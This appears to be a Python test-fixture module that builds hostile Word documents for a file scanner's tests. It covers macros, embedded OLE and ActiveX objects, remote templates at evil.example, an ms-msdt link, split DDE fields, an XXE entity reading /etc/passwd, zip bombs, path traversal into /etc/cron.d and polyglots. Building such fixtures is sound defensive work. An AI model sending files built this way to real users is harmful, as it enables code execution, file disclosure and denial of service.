"""Word documents that mean harm, each made from an honest one."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

from tests.activities.files.danger import EICAR
from tests.activities.files.papers import typeset, word

TYPES, DOCUMENT, RELS = "[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

Parts = dict[str, bytes]


def parts() -> Parts:
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(content: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in content.items():
            archive.writestr(name, part)
    return out.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    return zipped({**parts(), name: content})


def changed(name: str, change: Callable[[bytes], bytes]) -> bytes:
    content = parts()
    content[name] = change(content[name])
    return zipped(content)


def with_type(part: str, declared: str) -> bytes:
    override = f'<Override PartName="/{part}" ContentType="{declared}"/></Types>'.encode()
    return changed(TYPES, lambda xml: xml.replace(b"</Types>", override))


def with_relation(kind: str, target: str, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    return changed(RELS, lambda xml: xml.replace(b"</Relationships>", relation))


def with_body(xml: str) -> bytes:
    return changed(DOCUMENT, lambda whole: whole.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1))


def run(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def turn(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def encrypted_entries() -> bytes:
    content = bytearray(word())
    for mark, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        content[at + flag] |= 1
    return bytes(content)


def overlapping() -> bytes:
    """Two entries of the directory that unpack the same bytes."""
    content = with_part("word/media/a.xml", b"<a/>" * 3)
    end = content.rfind(b"PK\x05\x06")
    *head, size, offset, comment = struct.unpack("<4s4H2LH", content[end:])
    directory = content[offset:end]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    twin = last.replace(b"word/media/a.xml", b"word/media/b.xml")
    head[3], head[4] = head[3] + 1, head[4] + 1
    return content[:end] + twin + struct.pack("<4s4H2LH", *head, size + len(twin), offset, comment)


def duplicate() -> bytes:
    return with_part("word/documenX.xml", b"<a/>").replace(b"word/documenX.xml", b"word/document.xml")


def lying_bomb() -> bytes:
    size = 30_000_000
    return with_part("word/bomb.xml", b"0" * size).replace(size.to_bytes(4, "little"), (9).to_bytes(4, "little"))


def encrypted_package() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)


def entity(definition: str) -> bytes:
    return changed(
        DOCUMENT, lambda xml: xml.replace(b"<w:document", f"<!DOCTYPE w [{definition}]><w:document".encode(), 1)
    )


def split_field() -> bytes:
    return with_body(f"<w:p>{turn('begin')}{run('DD')}{run('EAUTO cmd')}{turn('end')}</w:p>")


def composed_field() -> bytes:
    inner = f"{turn('begin')}{run('QUOTE 68 68 69')}{turn('end')}"
    return with_body(f"<w:p>{turn('begin')}{run(' ')}{inner}{turn('end')}</w:p>")


MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
BOMB = "<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;'>"

WORD: dict[str, tuple[Callable[[], bytes], str]] = {
    "document with a password": (encrypted_package, "file_encrypted"),
    "document of old Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "file_old_format"),
    "encrypted entries": (encrypted_entries, "file_encrypted"),
    "macros": (lambda: with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "file_macros"),
    "macros by type": (lambda: with_type("word/document.xml", MAIN), "file_macros"),
    "macros by relation": (lambda: with_relation("vbaProject", "macros.bin", external=False), "file_macros"),
    "macros of Word's data": (lambda: with_part("word/vbaData.xml", b"<a/>"), "file_macros"),
    "embedded OLE object": (lambda: with_part("word/embeddings/oleObject1.bin", b"\xd0\xcf"), "file_embedded"),
    "OLE object under another name": (
        lambda: with_part("word/media/picture.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "file_embedded",
    ),
    "ActiveX": (lambda: with_part("word/activeX/activeX1.xml", b"<a/>"), "file_embedded"),
    "workbook in the document": (
        lambda: with_part("word/embeddings/sheet.xlsx", zipped({"a": b"b"})), "file_embedded",
    ),
    "archive in the archive": (lambda: with_part("word/media/image2.png", zipped({"a": b"b"})), "file_embedded"),
    "program as a picture": (lambda: with_part("word/media/image3.png", b"MZ\x90\x00" + bytes(500)), "file_embedded"),
    "PDF in the document": (lambda: with_part("word/media/image4.png", typeset()), "file_embedded"),
    "foreign part": (lambda: with_body('<w:altChunk r:id="rId1"/>'), "file_embedded"),
    "remote template": (lambda: with_relation("attachedTemplate", "http://evil.example/t.dotm"), "file_links_outside"),
    "picture from outside": (lambda: with_relation("image", "http://evil.example/p.png"), "file_links_outside"),
    "link to an OLE object": (lambda: with_relation("oleObject", "http://evil.example/o"), "file_embedded"),
    "frame from outside": (lambda: with_relation("frame", "http://evil.example/f"), "file_links_outside"),
    "link to a file share": (lambda: with_relation("hyperlink", "\\\\evil.example\\x"), "file_links_outside"),
    "link that runs a program": (lambda: with_relation("hyperlink", "ms-msdt:/id PCW"), "file_links_outside"),
    "outside without saying so": (lambda: with_relation("image", "http://evil.example/p", False), "file_links_outside"),
    "DDE in pieces": (split_field, "file_links_outside"),
    "field made by fields": (composed_field, "file_links_outside"),
    "text from a file": (
        lambda: with_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT c:\\x"/></w:p>'), "file_links_outside",
    ),
    "entities": (lambda: entity(BOMB), "file_xml_bad"),
    "external entity": (lambda: entity('<!ENTITY x SYSTEM "file:///etc/passwd">'), "file_xml_bad"),
    "endless depth": (lambda: with_body("<w:a>" * 5000 + "</w:a>" * 5000), "file_xml_bad"),
    "broken markup": (lambda: changed(DOCUMENT, lambda xml: xml[:-20]), "file_xml_bad"),
    "bomb": (lambda: with_part("word/bomb.xml", b"0" * 100_000_000), "file_bomb"),
    "bomb that lies about its size": (lying_bomb, "file_damaged"),
    "thousands of entries": (
        lambda: zipped({**parts(), **{f"word/{n}.xml": b"" for n in range(2000)}}), "file_bomb",
    ),
    "entries in one place": (overlapping, "file_bomb"),
    "entry that climbs out": (lambda: with_part("../../etc/cron.d/x", b"x"), "file_entries_bad"),
    "entry from the root": (lambda: with_part("/etc/passwd", b"x"), "file_entries_bad"),
    "entry with a drive": (lambda: with_part("c:\\windows\\x", b"x"), "file_entries_bad"),
    "one name twice": (duplicate, "file_entries_bad"),
    "one name in two cases": (lambda: with_part("WORD/Document.xml", b"<a/>"), "file_entries_bad"),
    "half a document": (lambda: word()[: len(word()) // 2], "file_damaged"),
    "something behind the end": (lambda: word() + b"MZ\x90\x00" * 50, "file_polyglot"),
    "something before the beginning": (
        lambda: word().replace(b"PK\x03\x04", b"PK\x03\x04" + b"#" * 64 + b"PK\x03\x04", 1), "file_polyglot",
    ),
    "document that is a PDF too": (lambda: zipped({"%PDF-1.7": b"%PDF-1.7", **parts()}), "file_polyglot"),
    "virus in a picture": (lambda: with_part("word/media/image5.png", EICAR), "file_virus"),
    "workbook": (lambda: zipped({TYPES: b"<Types/>", "xl/workbook.xml": b"<a/>"}), "file_type_unknown"),
    "archive": (lambda: zipped({"readme.txt": b"hello"}), "file_type_unknown"),
}  # fmt: skip
